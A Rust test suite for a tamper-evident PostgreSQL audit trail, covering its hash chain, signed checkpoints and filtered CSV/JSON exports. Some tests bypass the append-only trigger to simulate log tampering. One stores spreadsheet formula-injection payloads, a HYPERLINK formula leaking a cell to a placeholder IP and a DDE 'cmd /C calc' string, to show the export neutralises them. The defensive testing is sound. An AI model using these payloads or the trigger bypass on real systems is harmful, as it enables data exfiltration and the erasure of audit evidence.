//! The audit trail in PostgreSQL: append-only, hash-chained, serialised,
//! and failing closed.
#![allow(clippy::expect_used, clippy::unwrap_used, clippy::panic)]

mod common;

use app::audit::{self, Action, Actor, Client, NewEvent};
use sqlx::postgres::{PgConnectOptions, PgPoolOptions};
use sqlx::{Connection, Executor, PgPool};

fn event(n: usize) -> NewEvent {
    NewEvent::new(
        Action::SignIn,
        Some(Actor {
            sub: Some(format!("sub-{n}")),
            username: Some(format!("user{n}")),
        }),
        Client {
            ip: Some("192.0.2.7".into()),
            user_agent: Some("test".into()),
        },
    )
    .target(format!("session/{n}"))
    .after(serde_json::json!({ "n": n, "groups": ["gatehouse-editors"] }))
}

async fn record_events(pool: &PgPool, count: usize) {
    for n in 0..count {
        let mut tx = pool.begin().await.unwrap();
        audit::record(&mut tx, event(n)).await.unwrap();
        tx.commit().await.unwrap();
    }
}

/// Changes the table as a superuser would: with the trigger bypassed.
async fn tamper(pool: &PgPool, sql: &str) {
    let mut conn = pool.acquire().await.unwrap();
    conn.execute("SET session_replication_role = replica")
        .await
        .unwrap();
    conn.execute(sql).await.unwrap();
    conn.execute("SET session_replication_role = origin")
        .await
        .unwrap();
}

fn verify_cli(pool: &PgPool) -> (Option<i32>, String) {
    verify_cli_with(pool, &[])
}

/// `gatehouse audit verify` with `env` added to its environment.
fn verify_cli_with(pool: &PgPool, env: &[(&str, &str)]) -> (Option<i32>, String) {
    let output = common::gatehouse()
        .args(["audit", "verify"])
        .env("DATABASE_URL", common::database_url(pool))
        .envs(env.iter().copied())
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    (output.status.code(), text)
}

#[sqlx::test(migrations = "../migrations")]
async fn an_intact_chain_verifies(_: PgPoolOptions, options: PgConnectOptions) {
    let pool = common::pool(options).await;
    assert_eq!(
        audit::verify(&pool, &[]).await.unwrap(),
        Ok(0),
        "an empty trail is intact"
    );
    record_events(&pool, 5).await;
    assert_eq!(audit::verify(&pool, &[]).await.unwrap(), Ok(5));
    let (code, text) = verify_cli(&pool);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("intact: 5 events"), "{text}");
}

#[sqlx::test(migrations = "../migrations")]
async fn a_changed_event_is_named(_: PgPoolOptions, options: PgConnectOptions) {
    let pool = common::pool(options).await;
    record_events(&pool, 5).await;
    let third: i64 = sqlx::query_scalar("SELECT id FROM audit_events ORDER BY id OFFSET 2 LIMIT 1")
        .fetch_one(&pool)
        .await
        .unwrap();
    tamper(
        &pool,
        &format!(r#"UPDATE audit_events SET after = '{{"n":2,"groups":["gatehouse-admins"]}}' WHERE id = {third}"#),
    )
    .await;
    let broken = audit::verify(&pool, &[]).await.unwrap().unwrap_err();
    assert_eq!(broken.id, third);
    assert!(broken.reason.contains("changed"), "{}", broken.reason);
    let (code, text) = verify_cli(&pool);
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains(&format!("event {third}")), "{text}");
}

#[sqlx::test(migrations = "../migrations")]
async fn a_removed_event_is_named_by_its_successor(_: PgPoolOptions, options: PgConnectOptions) {
    let pool = common::pool(options).await;
    record_events(&pool, 4).await;
    let ids: Vec<i64> = sqlx::query_scalar("SELECT id FROM audit_events ORDER BY id")
        .fetch_all(&pool)
        .await
        .unwrap();
    tamper(
        &pool,
        &format!("DELETE FROM audit_events WHERE id = {}", ids[1]),
    )
    .await;
    let broken = audit::verify(&pool, &[]).await.unwrap().unwrap_err();
    assert_eq!(broken.id, ids[2]);
    assert!(
        broken.reason.contains("removed or reordered"),
        "{}",
        broken.reason
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn swapped_events_are_caught(_: PgPoolOptions, options: PgConnectOptions) {
    let pool = common::pool(options).await;
    record_events(&pool, 3).await;
    let ids: Vec<i64> = sqlx::query_scalar("SELECT id FROM audit_events ORDER BY id")
        .fetch_all(&pool)
        .await
        .unwrap();
    // Swap the first two events: each row keeps its content, takes the
    // other's place.
    tamper(
        &pool,
        &format!(
            "CREATE TEMP TABLE swapped AS SELECT * FROM audit_events WHERE id IN ({a}, {b});
             DELETE FROM audit_events WHERE id IN ({a}, {b});
             INSERT INTO audit_events OVERRIDING SYSTEM VALUE
             SELECT CASE id WHEN {a} THEN {b} ELSE {a} END, occurred_at, actor_sub,
                    actor_username, action, target, before, after, aws_request_id,
                    client_ip, user_agent, prev_hash, hash
               FROM swapped;",
            a = ids[0],
            b = ids[1]
        ),
    )
    .await;
    let broken = audit::verify(&pool, &[]).await.unwrap().unwrap_err();
    assert_eq!(broken.id, ids[0]);
}

#[sqlx::test(migrations = "../migrations")]
async fn the_application_role_cannot_change_or_remove_events(
    _: PgPoolOptions,
    options: PgConnectOptions,
) {
    let pool = common::pool(options).await;
    record_events(&pool, 1).await;
    let mut conn = pool.acquire().await.unwrap();
    conn.execute("SET ROLE gatehouse_app").await.unwrap();
    for sql in [
        "UPDATE audit_events SET action = 'auth.sign_out'",
        "DELETE FROM audit_events",
        "TRUNCATE audit_events",
    ] {
        let err = conn.execute(sql).await.expect_err(sql);
        assert!(
            err.to_string().contains("permission denied"),
            "{sql}: {err}"
        );
    }
    // It can read and append.
    let mut tx = conn.begin().await.unwrap();
    audit::record(&mut tx, event(9)).await.unwrap();
    tx.commit().await.unwrap();
    assert_eq!(audit::verify(&pool, &[]).await.unwrap(), Ok(2));
}

#[sqlx::test(migrations = "../migrations")]
async fn even_the_owner_is_stopped_by_the_trigger(_: PgPoolOptions, options: PgConnectOptions) {
    let pool = common::pool(options).await;
    record_events(&pool, 1).await;
    for sql in [
        "UPDATE audit_events SET target = 'x'",
        "DELETE FROM audit_events",
        "TRUNCATE audit_events",
    ] {
        let err = pool.execute(sql).await.expect_err(sql);
        assert!(err.to_string().contains("append-only"), "{sql}: {err}");
    }
}

#[sqlx::test(migrations = "../migrations")]
async fn concurrent_writers_keep_one_chain(_: PgPoolOptions, options: PgConnectOptions) {
    let pool = common::pool(options).await;
    let writers: Vec<_> = (0..24)
        .map(|n| {
            let pool = pool.clone();
            tokio::spawn(async move {
                let mut tx = pool.begin().await.unwrap();
                audit::record(&mut tx, event(n)).await.unwrap();
                tx.commit().await.unwrap();
            })
        })
        .collect();
    for writer in writers {
        writer.await.unwrap();
    }
    assert_eq!(audit::verify(&pool, &[]).await.unwrap(), Ok(24));
    let distinct_prev: i64 =
        sqlx::query_scalar("SELECT count(DISTINCT prev_hash) FROM audit_events")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(
        distinct_prev, 24,
        "no two events link to the same predecessor"
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn a_change_whose_event_cannot_be_written_does_not_happen(
    _: PgPoolOptions,
    options: PgConnectOptions,
) {
    let pool = common::pool(options).await;
    // A role that may register targets but not append audit events.
    pool.execute(
        "DO $$ BEGIN CREATE ROLE audit_denied NOLOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$;
         GRANT SELECT, INSERT ON aws_targets TO audit_denied;
         GRANT SELECT ON audit_events TO audit_denied;",
    )
    .await
    .unwrap();
    let mut conn = pool.acquire().await.unwrap();
    let mut tx = conn.begin().await.unwrap();
    tx.execute("SET LOCAL ROLE audit_denied").await.unwrap();
    tx.execute(
        "INSERT INTO aws_targets (kind, scope, name, aws_id, region)
         VALUES ('web_acl', 'REGIONAL', 'changed-without-audit', 'x', 'us-east-1')",
    )
    .await
    .unwrap();
    let recorded = audit::record(&mut tx, event(1)).await;
    assert!(recorded.is_err(), "the audit write is refused");
    drop(tx); // the caller propagates the error: nothing commits
    let changed: i64 =
        sqlx::query_scalar("SELECT count(*) FROM aws_targets WHERE name = 'changed-without-audit'")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(changed, 0);
}

// ---- The audit page and its exports ------------------------------------

use app::roles::Role;
use http::{StatusCode, header};

async fn fetch(
    state: &app::state::AppState,
    path: &str,
    cookie: &str,
) -> (StatusCode, http::HeaderMap, String) {
    let reply = common::get_as(state, path, cookie).await;
    (reply.status, reply.headers, reply.body)
}

/// 30 sign-ins by user0…user2 and 30 sign-outs by user3…user5.
async fn varied_trail(pool: &PgPool) {
    for n in 0..60 {
        let mut event = event(n % 3 + if n >= 30 { 3 } else { 0 });
        if n >= 30 {
            event.action = Action::SignOut;
        }
        let mut tx = pool.begin().await.unwrap();
        audit::record(&mut tx, event).await.unwrap();
        tx.commit().await.unwrap();
    }
}

#[sqlx::test(migrations = "../migrations")]
async fn the_audit_page_filters_and_pages(_: PgPoolOptions, options: PgConnectOptions) {
    let pool = common::pool(options).await;
    varied_trail(&pool).await;
    let state = common::state(pool.clone(), common::aws("us-east-1").await).await;
    let viewer = common::session_cookie(&state, Role::Viewer).await;

    // The viewer's own session added nothing; 60 events, 50 a page.
    let (status, _, all) = fetch(&state, "/audit", &viewer).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        all.contains("60 events match; page 1 of 2."),
        "{}",
        &all[all.len().saturating_sub(3000)..]
    );
    assert!(all.contains(r#"href="/audit?page=2""#));

    let expected: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM audit_events WHERE actor_username ILIKE '%user4%' AND action = 'auth.sign_out'",
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(expected, 10);
    let (_, _, filtered) = fetch(
        &state,
        "/audit?actor=user4&action=auth.sign_out&target=&from=&to=",
        &viewer,
    )
    .await;
    assert!(
        filtered.contains(&format!("{expected} events match; page 1 of 1.")),
        "actor and action"
    );

    let none = fetch(
        &state,
        "/audit?from=2000-01-01T00:00&to=2000-01-02T00:00",
        &viewer,
    )
    .await
    .2;
    assert!(none.contains("0 events match"), "time range");
    let bad = fetch(&state, "/audit?from=yesterday", &viewer).await.2;
    assert!(bad.contains("is not a date and time"));
    // A page past the last shows the last; no page number overflows.
    let far = fetch(&state, "/audit?page=9223372036854775807", &viewer).await;
    assert_eq!(far.0, StatusCode::OK);
    assert!(
        far.2.contains("60 events match; page 2 of 2."),
        "the last page"
    );
    // A wildcard typed into a filter is taken literally.
    let literal = fetch(&state, "/audit?actor=%25", &viewer).await.2;
    assert!(literal.contains("0 events match"));
}

#[sqlx::test(migrations = "../migrations")]
async fn exports_hold_exactly_the_filtered_view(_: PgPoolOptions, options: PgConnectOptions) {
    let pool = common::pool(options).await;
    varied_trail(&pool).await;
    let state = common::state(pool.clone(), common::aws("us-east-1").await).await;
    let viewer = common::session_cookie(&state, Role::Viewer).await;

    let (status, headers, csv) = fetch(
        &state,
        "/audit/export.csv?action=auth.sign_in&actor=user1",
        &viewer,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        headers[header::CONTENT_DISPOSITION]
            .to_str()
            .unwrap()
            .starts_with("attachment; filename=\"gatehouse-audit-")
    );
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some(
            "id,occurred_at,actor_sub,actor_username,action,target,before,after,aws_request_id,client_ip,user_agent,prev_hash,hash"
        )
    );
    let rows: Vec<&str> = lines.collect();
    assert_eq!(rows.len(), 10);
    assert!(
        rows.iter().all(|r| r.contains(",user1,auth.sign_in,")),
        "{rows:?}"
    );

    let (_, headers, json) =
        fetch(&state, "/audit/export.json?action=auth.sign_out", &viewer).await;
    assert!(
        headers[header::CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("application/json")
    );
    let events: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
    assert_eq!(events.len(), 30);
    assert!(
        events
            .windows(2)
            .all(|w| w[0]["id"].as_i64() > w[1]["id"].as_i64()),
        "newest first"
    );

    let (status, headers, _) = fetch(&state, "/audit/export.csv", "").await;
    assert_eq!(
        status,
        StatusCode::SEE_OTHER,
        "signed-out visitors are sent to sign in"
    );
    assert!(
        headers[header::LOCATION]
            .to_str()
            .unwrap()
            .starts_with("/sign-in?next=")
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn a_formula_in_the_csv_export_opens_as_text(_: PgPoolOptions, options: PgConnectOptions) {
    let pool = common::pool(options).await;
    let formula = r#"=HYPERLINK("http://198.51.100.7/?"&A1,"open")"#;
    let mut event = NewEvent::new(
        Action::SignInFailed,
        Some(Actor {
            sub: None,
            username: Some(formula.into()),
        }),
        Client {
            ip: Some("192.0.2.1".into()),
            user_agent: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
        },
    );
    event = event.target("+1-2");
    let mut tx = pool.begin().await.unwrap();
    audit::record(&mut tx, event).await.unwrap();
    tx.commit().await.unwrap();
    let state = common::state(pool.clone(), common::aws("us-east-1").await).await;
    let viewer = common::session_cookie(&state, Role::Viewer).await;

    let (status, _, csv) = fetch(
        &state,
        "/audit/export.csv?action=auth.sign_in_failed",
        &viewer,
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let row: std::collections::HashMap<String, String> =
        reader.deserialize().next().unwrap().unwrap();
    assert_eq!(row["actor_username"], format!("'{formula}"));
    assert_eq!(row["user_agent"], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(row["target"], "'+1-2");
    assert_eq!(row["client_ip"], "192.0.2.1", "a plain cell is as recorded");

    // JSON is no spreadsheet: it keeps the value as it was recorded.
    let (_, _, json) = fetch(
        &state,
        "/audit/export.json?action=auth.sign_in_failed",
        &viewer,
    )
    .await;
    let events: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
    assert_eq!(events[0]["actor_username"], formula);
}

// ---- The head anchored outside the database -----------------------------

use app::audit::checkpoint::{Anchor, AuditKey, Checkpoints};

const KEY: &str = "a test key of at least thirty-two characters";

fn key() -> AuditKey {
    AuditKey::new(KEY).unwrap()
}

/// A writer of checkpoints to `anchor`, signed with [`KEY`], every `every`.
fn checkpoints(anchor: &str, s3: &aws_sdk_s3::Client, every: std::time::Duration) -> Checkpoints {
    Checkpoints::new(Anchor::parse(anchor).unwrap(), key(), s3.clone(), every)
}

/// `gatehouse audit verify` with the anchor and key in the environment.
fn verify_anchored(pool: &PgPool, anchor: &str, key: &str) -> (Option<i32>, String) {
    let endpoint = common::moto_endpoint();
    verify_cli_with(
        pool,
        &[
            ("GATEHOUSE_AUDIT__ANCHOR", anchor),
            ("GATEHOUSE_AUDIT__KEY", key),
            ("AWS_ENDPOINT_URL", &endpoint),
        ],
    )
}

#[sqlx::test(migrations = "../migrations")]
async fn cutting_the_newest_events_is_detected_against_the_checkpoint(
    _: PgPoolOptions,
    options: PgConnectOptions,
) {
    let pool = common::pool(options).await;
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("checkpoint.json");
    let anchor = file.to_str().unwrap().to_owned();
    let aws = common::aws("us-east-1").await;
    let checkpoints = checkpoints(&anchor, &aws.s3, std::time::Duration::from_secs(60));
    record_events(&pool, 6).await;
    let written = checkpoints.write(&pool).await.unwrap().unwrap();
    let newest: i64 = sqlx::query_scalar("SELECT max(id) FROM audit_events")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(written.sequence, newest);
    // Nothing new: the checkpoint stays as it is.
    assert_eq!(
        checkpoints.write(&pool).await.unwrap(),
        Some(written.clone())
    );
    record_events(&pool, 2).await; // not yet covered: fine to lose
    let (code, text) = verify_anchored(&pool, &anchor, KEY);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("audit chain intact: 8 events"), "{text}");
    assert!(
        text.contains(&format!("covers events up to {newest}")),
        "{text}"
    );

    // Cut the last four events: the chain itself is still whole.
    tamper(
        &pool,
        &format!("DELETE FROM audit_events WHERE id > {}", newest - 2),
    )
    .await;
    assert_eq!(audit::verify(&pool, &[]).await.unwrap(), Ok(4));
    let broken = audit::verify(&pool, std::slice::from_ref(&written))
        .await
        .unwrap()
        .unwrap_err();
    assert_eq!(broken.id, newest);
    let (code, text) = verify_anchored(&pool, &anchor, KEY);
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("the newest events were removed"), "{text}");

    // A checkpoint signed with another key is refused as forged.
    let (code, text) = verify_anchored(&pool, &anchor, "another key of at least thirty-two chars");
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("not signed with audit.key"), "{text}");
}

#[sqlx::test(migrations = "../migrations")]
async fn a_trail_rewritten_whole_does_not_match_its_checkpoint(
    _: PgPoolOptions,
    options: PgConnectOptions,
) {
    let pool = common::pool(options).await;
    let folder = tempfile::tempdir().unwrap();
    let anchor = folder.path().join("c.json").to_str().unwrap().to_owned();
    let aws = common::aws("us-east-1").await;
    let checkpoints = checkpoints(&anchor, &aws.s3, std::time::Duration::from_secs(60));
    record_events(&pool, 3).await;
    checkpoints.write(&pool).await.unwrap();
    // Everything removed and as many events written again, hashes and all:
    // a chain that verifies on its own.
    tamper(&pool, "DELETE FROM audit_events").await;
    record_events(&pool, 5).await;
    assert_eq!(audit::verify(&pool, &[]).await.unwrap(), Ok(5));
    let (code, text) = verify_anchored(&pool, &anchor, KEY);
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("rewritten from the start"), "{text}");
}

#[sqlx::test(migrations = "../migrations")]
async fn checkpoints_go_to_an_s3_bucket_under_object_lock(
    _: PgPoolOptions,
    options: PgConnectOptions,
) {
    use aws_sdk_s3::types::{
        DefaultRetention, ObjectLockConfiguration, ObjectLockEnabled, ObjectLockRetentionMode,
        ObjectLockRule,
    };
    let pool = common::pool(options).await;
    let aws = common::aws("us-east-1").await;
    let bucket = format!("audit-{}", uuid::Uuid::new_v4().simple());
    aws.s3
        .create_bucket()
        .bucket(&bucket)
        .object_lock_enabled_for_bucket(true)
        .send()
        .await
        .unwrap();
    aws.s3
        .put_object_lock_configuration()
        .bucket(&bucket)
        .object_lock_configuration(
            ObjectLockConfiguration::builder()
                .object_lock_enabled(ObjectLockEnabled::Enabled)
                .rule(
                    ObjectLockRule::builder()
                        .default_retention(
                            DefaultRetention::builder()
                                .mode(ObjectLockRetentionMode::Compliance)
                                .days(30)
                                .build(),
                        )
                        .build(),
                )
                .build(),
        )
        .send()
        .await
        .unwrap();
    let anchor = format!("s3://{bucket}/gatehouse/");
    let checkpoints = std::sync::Arc::new(checkpoints(
        &anchor,
        &aws.s3,
        std::time::Duration::from_millis(100),
    ));
    record_events(&pool, 2).await;
    tokio::spawn(checkpoints.clone().run(pool.clone()));
    // The writer runs: a checkpoint now, another once the head moves.
    let covered = |c: &Checkpoints| match c.coverage() {
        app::audit::Coverage::Covered { sequence, lock, .. } => Some((sequence, lock)),
        _ => None,
    };
    let newest = || async {
        sqlx::query_scalar::<_, i64>("SELECT max(id) FROM audit_events")
            .fetch_one(&pool)
            .await
            .unwrap()
    };
    for round in 0.. {
        if covered(&checkpoints).is_some_and(|(s, _)| s == 2) {
            break;
        }
        assert!(round < 100, "no checkpoint written");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    // In one transaction, so the head moves once and the writer cannot
    // anchor a point halfway through.
    let mut tx = pool.begin().await.unwrap();
    for n in 0..3 {
        audit::record(&mut tx, event(n)).await.unwrap();
    }
    tx.commit().await.unwrap();
    checkpoints.nudge();
    let head = newest().await;
    for round in 0.. {
        if covered(&checkpoints).is_some_and(|(s, _)| s == head) {
            break;
        }
        assert!(round < 100, "the moved head was not anchored");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let (_, lock) = covered(&checkpoints).unwrap();
    assert_eq!(
        lock.as_deref(),
        Some("Object Lock, compliance mode, 30 days")
    );
    // One object per checkpoint; the newest is listed first.
    let listed = aws
        .s3
        .list_objects_v2()
        .bucket(&bucket)
        .prefix("gatehouse/")
        .send()
        .await
        .unwrap();
    assert_eq!(listed.contents().len(), 2);
    let (code, text) = verify_anchored(&pool, &anchor, KEY);
    assert_eq!(code, Some(0), "{text}");
    assert!(
        text.contains(&format!("covers events up to {head}")),
        "{text}"
    );
    tamper(
        &pool,
        &format!("DELETE FROM audit_events WHERE id = {head}"),
    )
    .await;
    let (code, text) = verify_anchored(&pool, &anchor, KEY);
    assert_eq!(code, Some(1), "{text}");
}

#[sqlx::test(migrations = "../migrations")]
async fn a_trail_rewritten_under_its_checkpoint_is_never_signed(
    _: PgPoolOptions,
    options: PgConnectOptions,
) {
    let pool = common::pool(options).await;
    let folder = tempfile::tempdir().unwrap();
    let anchor = folder.path().join("c.jsonl").to_str().unwrap().to_owned();
    let mut state = common::state(pool.clone(), common::aws("us-east-1").await).await;
    let viewer = common::session_cookie(&state, Role::Viewer).await;
    let checkpoints = std::sync::Arc::new(checkpoints(
        &anchor,
        &state.aws.s3,
        std::time::Duration::from_secs(60),
    ));
    state.checkpoints = Some(checkpoints.clone());
    record_events(&pool, 3).await;
    let first = checkpoints.write(&pool).await.unwrap().unwrap();

    // An event after the checkpoint changed in place: its hash no longer
    // holds, and the head after it is not signed.
    record_events(&pool, 2).await;
    tamper(
        &pool,
        &format!(
            "UPDATE audit_events SET target = 'nothing to see' WHERE id = {}",
            first.sequence + 1
        ),
    )
    .await;
    record_events(&pool, 1).await;
    let refused = checkpoints.write(&pool).await.unwrap_err();
    assert!(refused.contains("content was changed"), "{refused}");

    // The whole trail replaced by a chain that verifies on its own.
    tamper(&pool, "DELETE FROM audit_events").await;
    record_events(&pool, 8).await;
    assert_eq!(audit::verify(&pool, &[]).await.unwrap(), Ok(8));
    let refused = checkpoints.write(&pool).await.unwrap_err();
    assert!(refused.contains("rewritten from the start"), "{refused}");
    let anchored = Anchor::parse(&anchor)
        .unwrap()
        .all(&state.aws.s3)
        .await
        .unwrap();
    assert_eq!(anchored, [first], "nothing was signed after the first");

    // Health says so (503 for a load balancer), and so does the Audit page.
    let (status, _, health) = fetch(&state, "/healthz", "").await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{health}");
    let health: serde_json::Value = serde_json::from_str(&health).unwrap();
    assert_eq!(health["audit_anchor"]["ok"], false, "{health}");
    let (_, _, page) = fetch(&state, "/audit", &viewer).await;
    assert!(
        page.contains("refused to sign"),
        "{}",
        &page[page.len().saturating_sub(4000)..]
    );
    let (code, text) = verify_anchored(&pool, &anchor, KEY);
    assert_eq!(code, Some(1), "{text}");
}

#[sqlx::test(migrations = "../migrations")]
async fn verify_walks_every_checkpoint_and_an_empty_anchor_fails(
    _: PgPoolOptions,
    options: PgConnectOptions,
) {
    let pool = common::pool(options).await;
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("c.jsonl");
    let anchor = file.to_str().unwrap().to_owned();
    let aws = common::aws("us-east-1").await;
    let (code, text) = verify_anchored(&pool, &anchor, KEY);
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("holds no checkpoint"), "{text}");

    let checkpoints = checkpoints(&anchor, &aws.s3, std::time::Duration::from_secs(60));
    for _ in 0..3 {
        record_events(&pool, 2).await;
        checkpoints.write(&pool).await.unwrap();
    }
    let (code, text) = verify_anchored(&pool, &anchor, KEY);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("3 checkpoints at"), "{text}");

    // The middle checkpoint taken out of the anchor.
    let lines: Vec<String> = std::fs::read_to_string(&file)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    assert_eq!(lines.len(), 3);
    std::fs::write(&file, format!("{}\n{}\n", lines[0], lines[2])).unwrap();
    let (code, text) = verify_anchored(&pool, &anchor, KEY);
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("checkpoints were removed"), "{text}");
}

#[sqlx::test(migrations = "../migrations")]
async fn the_audit_page_says_how_far_the_anchor_reaches(
    _: PgPoolOptions,
    options: PgConnectOptions,
) {
    let pool = common::pool(options).await;
    record_events(&pool, 3).await;
    let mut state = common::state(pool.clone(), common::aws("us-east-1").await).await;
    let viewer = common::session_cookie(&state, Role::Viewer).await;
    let (_, _, page) = fetch(&state, "/audit", &viewer).await;
    assert!(
        page.contains("Not anchored outside the database"),
        "no anchor configured"
    );

    let folder = tempfile::tempdir().unwrap();
    let anchor = folder.path().join("c.json").to_str().unwrap().to_owned();
    let checkpoints = std::sync::Arc::new(checkpoints(
        &anchor,
        &state.aws.s3,
        std::time::Duration::from_secs(60),
    ));
    let written = checkpoints.write(&pool).await.unwrap().unwrap();
    state.checkpoints = Some(checkpoints);
    record_events(&pool, 2).await;
    let (_, _, page) = fetch(&state, "/audit", &viewer).await;
    assert!(
        page.contains(&format!(
            "covers events up to {}; 2 newer events are not yet covered",
            written.sequence
        )),
        "{}",
        &page[page.len().saturating_sub(4000)..]
    );
}
